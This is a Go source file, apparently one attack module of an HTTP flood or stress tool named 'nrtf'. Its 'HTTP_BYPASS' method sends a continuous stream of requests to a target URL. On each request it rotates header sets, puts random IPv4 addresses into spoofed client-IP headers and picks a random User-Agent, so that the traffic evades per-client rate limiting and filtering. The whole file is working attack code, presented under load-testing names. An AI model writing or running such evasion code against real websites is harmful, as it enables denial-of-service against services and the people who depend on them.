package httpmethods

import (
	"context"
	"net/url"
	"time"

	"golang.org/x/time/rate"

	"github.com/Gh05t666nero/nrtf/internal/core/domain"
	"github.com/Gh05t666nero/nrtf/internal/util"
	"github.com/Gh05t666nero/nrtf/internal/worker"
)

// HTTPBypass cycles header rotations that imitate different client classes,
// rerandomizing the spoofed client-IP headers on every request.
type HTTPBypass struct{}

func NewHTTPBypass() *HTTPBypass { return &HTTPBypass{} }

func (m *HTTPBypass) Name() string { return "HTTP_BYPASS" }

func (m *HTTPBypass) Prepare(params *domain.TestParameters) error {
	params.Target = domain.NormalizeHTTPTarget(params.Target)
	if _, err := url.Parse(params.Target); err != nil {
		return domain.NewValidationError("target", "target is not a valid URL")
	}
	return nil
}

func (m *HTTPBypass) RunUnit(ctx context.Context, run *worker.TestRun) {
	target := run.Params.Target
	u, err := url.Parse(target)
	if err != nil {
		run.Metrics.RecordFail()
		return
	}
	sets := bypassHeaderSets(u.Host, target)

	client := newClient(run)
	release, ok := trackClient(run, client)
	if !ok {
		return
	}
	defer release()

	limiter := rate.NewLimiter(rate.Every(100*time.Millisecond), 1)
	for ctx.Err() == nil {
		if limiter.Wait(ctx) != nil {
			return
		}

		headers := make(map[string]string, len(sets[0]))
		for k, v := range util.Pick(sets) {
			headers[k] = v
		}
		for _, key := range ipHeaders {
			if _, present := headers[key]; present {
				headers[key] = util.RandomIPv4()
			}
		}
		headers["User-Agent"] = util.Pick(userAgents)

		if err := doRequest(ctx, client, target, headers, run); err != nil {
			sleepCtx(ctx, 500*time.Millisecond)
		}
	}
}
